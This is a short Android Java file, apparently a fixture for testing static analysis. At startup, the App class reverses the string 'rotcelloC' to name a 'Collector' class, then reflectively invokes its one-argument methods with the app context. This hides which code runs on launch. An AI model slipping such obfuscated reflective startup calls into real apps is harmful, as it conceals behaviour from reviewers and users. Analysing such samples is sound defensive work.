package com.example.reflection_computed;

import android.app.Application;
import android.util.Log;
import java.lang.reflect.Method;

public class App extends Application {
    @Override
    public void onCreate() {
        super.onCreate();
        String name = new StringBuilder("rotcelloC").reverse().toString();
        try {
            Class<?> type = Class.forName(getPackageName() + "." + name);
            for (Method method : type.getDeclaredMethods()) {
                if (method.getParameterTypes().length == 1) {
                    method.invoke(null, this);
                }
            }
        } catch (ReflectiveOperationException e) {
            Log.w("app", e);
        }
    }
}
